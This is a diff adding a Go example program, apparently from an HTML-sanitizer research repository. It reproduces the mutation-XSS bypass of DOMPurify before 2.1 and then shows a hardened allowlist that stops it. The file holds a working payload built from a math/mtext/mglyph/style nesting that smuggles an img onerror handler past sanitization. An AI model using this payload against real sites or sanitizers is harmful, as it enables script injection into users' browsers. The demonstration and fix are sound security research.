@@ -1,0 +1,80 @@
+// Mutation XSS: reproduces the paper's Figure 1 — the DOMPurify < 2.1
+// bypass — end to end through this repository's own parser and sanitizer.
+// The harmless-looking payload survives sanitization because the alert
+// sits inside a title attribute; re-parsing the sanitizer's output (what
+// the browser does with innerHTML) mutates it into a live <img onerror>.
+//
+//	go run ./examples/mxss
+package main
+
+import (
+	"fmt"
+	"log"
+
+	"github.com/hvscan/hvscan/internal/htmlparse"
+	"github.com/hvscan/hvscan/internal/sanitizer"
+)
+
+const payload = `<math><mtext><table><mglyph><style><!--</style>` +
+	`<img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">`
+
+func main() {
+	fmt.Println("attacker input (Figure 1a):")
+	fmt.Println(" ", payload)
+
+	s := sanitizer.New(nil) // DOMPurify<2.1-style allowlist (math allowed)
+	clean, err := s.Sanitize(payload)
+	if err != nil {
+		log.Fatal(err)
+	}
+	fmt.Println("\nsanitizer output — in the sanitizer's parse the alert sits inertly")
+	fmt.Println("inside a title attribute, and every on* handler was stripped (Figure 1b):")
+	fmt.Println(" ", clean)
+
+	// The browser inserts the sanitized string into the document and
+	// parses it AGAIN. Now mglyph sits directly under mtext, the whole
+	// chain stays in the MathML namespace, <style> is no longer raw text,
+	// the <!-- opens a real comment that eats up to the --> inside the
+	// title attribute — and the payload img materializes.
+	res, err := htmlparse.ParseFragment([]byte(clean), "div")
+	if err != nil {
+		log.Fatal(err)
+	}
+	fmt.Println("\nbrowser re-parse (parse #2):")
+	fmt.Println(" ", htmlparse.RenderString(res.Doc))
+	if img := armed(clean); img != nil {
+		onerror, _ := img.LookupAttr("onerror")
+		fmt.Printf("\n=> mutation XSS: <img src=1 onerror=%s> is live in the %s namespace.\n",
+			onerror, img.Namespace)
+	}
+
+	// The fix direction DOMPurify took: stop trusting the MathML tags.
+	hardened := sanitizer.DefaultPolicy()
+	delete(hardened.AllowedTags, "math")
+	delete(hardened.AllowedTags, "mtext")
+	delete(hardened.AllowedTags, "mglyph")
+	delete(hardened.AllowedTags, "style")
+	clean2, err := sanitizer.New(hardened).Sanitize(payload)
+	if err != nil {
+		log.Fatal(err)
+	}
+	fmt.Println("\nhardened policy output:")
+	fmt.Println(" ", clean2)
+	fmt.Println("  armed after re-parse:", armed(clean2) != nil)
+}
+
+// armed reports whether re-parsing html yields an element with an onerror
+// handler (the attack succeeding).
+func armed(html string) *htmlparse.Node {
+	res, err := htmlparse.ParseFragment([]byte(html), "div")
+	if err != nil {
+		return nil
+	}
+	return res.Doc.Find(func(n *htmlparse.Node) bool {
+		if n.Type != htmlparse.ElementNode {
+			return false
+		}
+		_, ok := n.LookupAttr("onerror")
+		return ok
+	})
+}
